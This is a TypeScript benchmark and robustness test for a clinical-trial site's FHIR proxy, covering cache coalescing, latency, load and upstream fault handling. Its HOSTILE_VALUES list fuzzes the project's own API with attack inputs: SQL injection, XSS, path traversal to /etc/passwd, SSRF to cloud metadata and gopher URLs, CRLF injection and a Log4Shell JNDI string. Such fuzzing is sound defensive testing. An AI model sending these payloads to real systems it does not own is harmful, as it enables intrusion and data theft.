/**
 * Benchmark of the FHIR proxy and of the API's robustness, against a running production server that syncs from
 * the in-process emulator (scripts/bench/index.ts). The server must run with PHARE_API_RATE_LIMIT raised (the
 * per-client limit would otherwise answer 429 to the load). Prints figures; asserts nothing.
 */
import { createPrng } from '@/lib/demo/prng';
import type { Emulator } from '@/lib/emulator/server';
import { autocannon } from './pages';
import { ms, summarise } from './stats';

export interface BenchProxyContext {
  appUrl: string;
  emulator: Emulator;
  print: (label: string, value: string) => void;
}

const LOAD_SECONDS = Number(process.env.BENCH_LOAD_SECONDS ?? 30);
const LOAD_CONNECTIONS = 100;
const FAULT_REQUESTS = 200;
const HOSTILE_PER_ROUTE = 1_000;

function stackTraceIn(body: string): boolean {
  return /^\s*at .*\.js:\d+/m.test(body) || /^\s*[A-Za-z]*Error: /m.test(body);
}

/** Runs `tasks` with at most `limit` in flight. */
async function pool<T>(items: T[], limit: number, task: (item: T) => Promise<void>): Promise<void> {
  let next = 0;
  await Promise.all(
    Array.from({ length: Math.min(limit, items.length) }, async () => {
      while (next < items.length) await task(items[next++]);
    }),
  );
}

function upstreamSearchCalls(emulator: Emulator): number {
  return emulator.stats().byPath['/R4/ResearchStudy'] ?? 0;
}

/** Raw (already URL-shaped, sometimes deliberately ill-encoded) hostile values. */
const HOSTILE_VALUES: string[] = [
  "'%20OR%201=1--",
  '%22%3B%20DROP%20TABLE%20studies%3B--',
  '1%27%20UNION%20SELECT%20sql%20FROM%20sqlite_master--',
  '%3Cscript%3Ealert(1)%3C%2Fscript%3E',
  '%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E',
  '*%3A*',
  'title%3A%2F.*%2F',
  '((((((((((',
  '%5C',
  '%22',
  '%00',
  'abc%00def',
  '%C3%28',
  '%FF',
  '%E0%A4%A',
  '%',
  '%%',
  '%ZZ',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  '..%2F..%2F..%2Fetc%2Fpasswd',
  '../../etc/passwd',
  'http://169.254.169.254/latest/meta-data/',
  'http%3A%2F%2Fevil.example%2F',
  'file:///etc/passwd',
  '//evil.example/x',
  'gopher://127.0.0.1:6379/_INFO',
  '%0D%0ASet-Cookie:%20x=1',
  '%E2%80%AE',
  '%F0%9F%92%A5',
  '-1',
  '1e309',
  'NaN',
  'Infinity',
  '0x10',
  '99999999999999999999999',
  '1.5',
  'true',
  'null',
  '__proto__',
  '%7B%22%24gt%22%3A%22%22%7D',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  'MATCH%20studies_fts',
  'NEAR(a%20b)',
  '%22unterminated',
];

function hugeValue(r: () => number): string {
  const sizes = [300, 2_000, 9_000, 20_000];
  const size = sizes[Math.floor(r() * sizes.length)];
  return (r() < 0.5 ? 'a' : '%C3%A9').repeat(Math.ceil(size / 3)).slice(0, size);
}

/** Hostile query strings mixing the route's own parameter names, other names and hostile values. */
function hostileQueries(names: string[], count: number, seed: number): string[] {
  const r = createPrng(seed); // deterministic: the hostile corpus is the same on every run
  const pick = <T,>(list: T[]) => list[Math.floor(r() * list.length)];
  const allNames = [...names, '__proto__[x]', 'constructor[prototype][x]', 'a[]', 'url', '_format', '%00', '%C3%28', ''];
  const out: string[] = [];
  for (let i = 0; i < count; i++) {
    const parts: string[] = [];
    const n = 1 + Math.floor(r() * 4);
    for (let k = 0; k < n; k++) {
      const value = r() < 0.1 ? hugeValue(r) : pick(HOSTILE_VALUES);
      parts.push(`${pick(r() < 0.8 ? names : allNames)}=${value}`);
    }
    if (r() < 0.1) parts.push(parts[0]); // repeated name
    out.push(parts.join('&'));
  }
  return out;
}

function hostileIds(count: number, seed: number): string[] {
  const r = createPrng(seed); // deterministic: the hostile corpus is the same on every run
  const out: string[] = [];
  for (let i = 0; i < count; i++) {
    const base = r() < 0.1 ? hugeValue(r).slice(0, 4_000) : HOSTILE_VALUES[Math.floor(r() * HOSTILE_VALUES.length)];
    out.push(r() < 0.3 ? `2022-500014-26-00${base}` : base);
  }
  return out;
}

interface Tally {
  total: number;
  status5xx: number;
  stackTraces: number;
  clientErrors: number;
  byClass: Record<string, number>;
}

async function hammer(appUrl: string, paths: string[]): Promise<Tally> {
  const tally: Tally = { total: 0, status5xx: 0, stackTraces: 0, clientErrors: 0, byClass: {} };
  await pool(paths, 20, async (path) => {
    tally.total++;
    try {
      const response = await fetch(`${appUrl}${path}`, { redirect: 'manual', signal: AbortSignal.timeout(30_000) });
      const body = await response.text();
      const cls = `${Math.floor(response.status / 100)}xx`;
      tally.byClass[cls] = (tally.byClass[cls] ?? 0) + 1;
      if (response.status >= 500) tally.status5xx++;
      if (stackTraceIn(body)) tally.stackTraces++;
    } catch {
      tally.clientErrors++; // URL the client itself refused to send, or connection reset
    }
  });
  return tally;
}

async function load(ctx: BenchProxyContext, label: string, url: string): Promise<void> {
  const result = await autocannon({ url, connections: LOAD_CONNECTIONS, duration: LOAD_SECONDS });
  ctx.print(
    `${label}: req/s, p99, errors, non-2xx`,
    `${Math.round(result.requests.average)} req/s, p99 ${ms(result.latency.p99)}, ${result.errors + result.timeouts} errors, ${result.non2xx} non-2xx`,
  );
}

export async function benchProxy(ctx: BenchProxyContext): Promise<void> {
  const { appUrl, emulator, print } = ctx;
  const fhir = `${appUrl}/api/fhir/ResearchStudy`;
  const runTag = Date.now() % 9_000;

  // 1. Coalescing: 100 concurrent identical misses.
  const missUrl = `${fhir}?_sort=_id&_count=13&_getpagesoffset=${runTag}`;
  const before = upstreamSearchCalls(emulator);
  const answers = await Promise.all(
    Array.from({ length: 100 }, async () => {
      const r = await fetch(missUrl);
      await r.arrayBuffer();
      return r.status;
    }),
  );
  print('100 concurrent identical misses: upstream calls', String(upstreamSearchCalls(emulator) - before));
  print('  their statuses', [...new Set(answers)].join(', '));

  // 2. Hit latency over HTTP.
  const hitUrl = `${fhir}?_count=10`;
  await (await fetch(hitUrl)).arrayBuffer();
  const samples: number[] = [];
  let nonHit = 0;
  for (let i = 0; i < 1_000; i++) {
    const start = performance.now();
    const r = await fetch(hitUrl);
    await r.arrayBuffer();
    samples.push(performance.now() - start);
    if (r.headers.get('x-cache') !== 'HIT') nonHit++;
  }
  const s = summarise(samples);
  print('cache hit latency p50 / p99 (1,000 sequential)', `${ms(s.p50)} / ${ms(s.p99)} (${nonHit} not HIT)`);

  // 3. Load.
  await load(ctx, `autocannon ${LOAD_SECONDS} s × ${LOAD_CONNECTIONS} /api/studies`, `${appUrl}/api/studies`);
  await load(ctx, `autocannon ${LOAD_SECONDS} s × ${LOAD_CONNECTIONS} cached FHIR search`, hitUrl);

  // 4. Hostile input, before the faults (an open breaker would turn valid queries into 503s).
  const routes: { label: string; paths: string[] }[] = [
    {
      label: '/api/studies?…',
      paths: hostileQueries(['maladie', 'region', 'departement', 'lieu', 'rayon', 'lat', 'lon', 'categorie', 'recrutement', 'age', 'sexe', 'volontaire', 'phase', 'tri', 'page'], HOSTILE_PER_ROUTE, 1).map((q) => `/api/studies?${q}`),
    },
    { label: '/api/studies/{id}', paths: hostileIds(HOSTILE_PER_ROUTE, 2).map((id) => `/api/studies/${id}`) },
    {
      label: '/api/sites?…',
      paths: hostileQueries(['maladie', 'region', 'departement', 'lieu', 'rayon', 'lat', 'lon', 'categorie', 'recrutement', 'phase'], HOSTILE_PER_ROUTE, 3).map((q) => `/api/sites?${q}`),
    },
    { label: '/api/geo/suggest?…', paths: hostileQueries(['q', 'limit'], HOSTILE_PER_ROUTE, 4).map((q) => `/api/geo/suggest?${q}`) },
    {
      label: '/api/fhir/ResearchStudy?…',
      paths: hostileQueries(['identifier', 'status', '_lastUpdated', '_text', '_content', '_count', '_getpagesoffset', '_sort', 'search_after', '_include', '_must', '_mustNot'], HOSTILE_PER_ROUTE, 5).map((q) => `/api/fhir/ResearchStudy?${q}`),
    },
    { label: '/api/fhir/ResearchStudy/{id}', paths: hostileIds(HOSTILE_PER_ROUTE, 6).map((id) => `/api/fhir/ResearchStudy/${id}`) },
  ];
  for (const route of routes) {
    const t = await hammer(appUrl, route.paths);
    print(
      `hostile input ${route.label}: 5xx, stack traces`,
      `${t.status5xx} 5xx, ${t.stackTraces} stack traces of ${t.total} (${Object.entries(t.byClass).map(([k, v]) => `${k} ${v}`).join(', ')}${t.clientErrors ? `, ${t.clientErrors} not sent` : ''})`,
    );
  }

  // 5. Faults: visitors on already-cached searches and on mirror-backed reads by id (cold in the proxy cache).
  const listing = (await (await fetch(`${emulator.baseUrl}/ResearchStudy?_sort=_id&_count=100`)).json()) as {
    entry?: { resource: { id: string } }[];
  };
  const ids = (listing.entry ?? []).map((e) => e.resource.id);
  const cachedUrls = Array.from({ length: 20 }, (_, i) => `/api/fhir/ResearchStudy?_sort=_id&_count=${i + 1}`);
  await pool(cachedUrls, 1, async (u) => void (await (await fetch(`${appUrl}${u}`)).arrayBuffer()));

  const phases: { label: string; faults: Parameters<Emulator['setFaults']>[0] }[] = [
    { label: 'upstream 50 % 503', faults: { p503: 0.5 } },
    { label: 'upstream down', faults: { p503: 0, down: true } },
    { label: 'upstream 5 s delay', faults: { down: false, delayMs: 5_000 } },
  ];
  for (const [index, phase] of phases.entries()) {
    emulator.setFaults(phase.faults);
    const reads = ids.slice(index * 30, index * 30 + 30).map((id) => `/api/fhir/ResearchStudy/${id}`);
    const paths = Array.from({ length: FAULT_REQUESTS }, (_, i) =>
      i % 2 === 0 ? cachedUrls[i % cachedUrls.length] : reads[i % Math.max(1, reads.length)] ?? cachedUrls[0],
    );
    let ok = 0;
    let fiveXx = 0;
    let stale = 0;
    const started = performance.now();
    await pool(paths, 20, async (p) => {
      try {
        const r = await fetch(`${appUrl}${p}`, { signal: AbortSignal.timeout(60_000) });
        await r.arrayBuffer();
        if (r.ok) ok++;
        if (r.status >= 500) fiveXx++;
        if (r.headers.get('x-cache') === 'STALE') stale++;
      } catch {
        fiveXx++;
      }
    });
    print(
      `faults, ${phase.label}: answered successfully, 5xx`,
      `${((100 * ok) / paths.length).toFixed(1)} % of ${paths.length}, ${fiveXx} 5xx, ${stale} STALE, ${((performance.now() - started) / 1000).toFixed(1)} s`,
    );
  }
  emulator.setFaults({ p503: 0, down: false, delayMs: 0 });
}
